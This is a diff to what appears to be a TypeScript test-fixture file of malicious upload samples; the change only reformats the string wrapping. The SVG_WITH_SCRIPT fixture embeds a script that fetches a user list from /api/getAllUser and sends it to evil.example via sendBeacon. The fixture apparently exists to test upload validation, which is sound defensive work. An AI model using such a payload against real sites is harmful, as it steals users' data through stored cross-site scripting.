@@ -94,8 +94,10 @@ export async function pngWithHtmlAppended(): Promise<Buffer> {
 }
 
 export const SVG_WITH_SCRIPT = Buffer.from(
-  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><rect width="64" height="64" fill="gold"/>' +
-    '<script type="text/javascript">fetch("/api/getAllUser").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></svg>',
+  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><rect width="64" ' +
+    'height="64" fill="gold"/>' +
+    '<script type="text/javascript">fetch("/api/getAllUser").then(r => r.text()).then(t => ' +
+    'navigator.sendBeacon("https://evil.example", t))</script></svg>',
 );
 
 export const TEXT_PRETENDING_TO_BE_JPEG = Buffer.from(
